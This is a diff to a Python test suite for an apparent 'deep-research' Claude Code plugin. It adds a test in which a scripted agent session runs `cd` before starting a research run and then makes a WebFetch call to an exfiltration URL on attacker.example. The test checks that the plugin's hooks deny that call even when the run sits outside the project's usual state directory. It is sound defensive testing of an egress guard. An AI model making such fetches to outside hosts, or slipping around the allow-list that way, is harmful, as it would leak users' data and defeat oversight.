@@ -172,7 +172,7 @@ def calls(*steps: Block | list[Block], search: list[Block] | None = None) -> Scr
 
 def run_claude(project: Project, script: Script, *allowed: str,
                on_event: Callable[[dict[str, Any]], None] | None = None,
-               prompt: str = "Use the tool as instructed.") -> Session:
+               prompt: str = "Use the tool as instructed.", state_env: bool = True) -> Session:
     """One headless session; its stream-json events go to ``on_event`` as they arrive, so a
     script can wait on what the CLI has done so far (a subagent's reply on a denial, say)."""
     claude = claude_binary()
@@ -188,8 +188,9 @@ def run_claude(project: Project, script: Script, *allowed: str,
             "HTTPS_PROXY": api.base_url,
             "HTTP_PROXY": api.base_url,
             "NO_PROXY": "127.0.0.1",
-            "DEEP_RESEARCH_STATE": str(project.state),
         }
+        if state_env:
+            env["DEEP_RESEARCH_STATE"] = str(project.state)
         command = [claude, "-p", prompt, "--plugin-dir", str(REPO),
                    "--output-format", "stream-json", "--verbose"]
         if allowed:
@@ -296,6 +297,25 @@ def test_hook_keeps_the_runs_records_out_of_the_models_reach(project: Project) -
     _, plan_error = session.result_for("toolu_plan")
     assert not plan_error, session.report()
     assert (project.brief / "plan.json").read_text(encoding="utf-8") == '{"sub_questions": []}'
+    session.assert_only_the_fake_api()
+
+
+def test_a_run_started_after_a_cd_is_guarded_all_the_same(project: Project) -> None:
+    """The shell keeps its directory between Bash calls and Bash gets no CLAUDE_PROJECT_DIR, so
+    `deep-research start` after a `cd` puts the run outside the project's state/. The session's
+    run record still leads the hooks to it: a fetch outside the allow-list is denied."""
+    (project.root / "notes").mkdir()
+    start = tool_use("Bash", {"command": f"cd notes && deep-research start '{SCOPE}' "
+                              "--depth quick", "description": "start"}, "toolu_start")
+    fetch = tool_use("WebFetch", {"url": EXFILTRATION, "prompt": "summarize"}, "toolu_exfil")
+    session = run_claude(project, calls(start, fetch), "Bash(deep-research *)", "WebFetch",
+                         state_env=False)
+    started, start_error = session.result_for("toolu_start")
+    assert not start_error and str(project.root / "notes" / "state") in started, session.report()
+    content, is_error = session.result_for("toolu_exfil")
+    assert "WebFetch: host attacker.example is not on this run's allow-list" in content, \
+        session.report()
+    assert is_error and session.denied_ids() == ["toolu_exfil"], session.report()
     session.assert_only_the_fake_api()
 
 
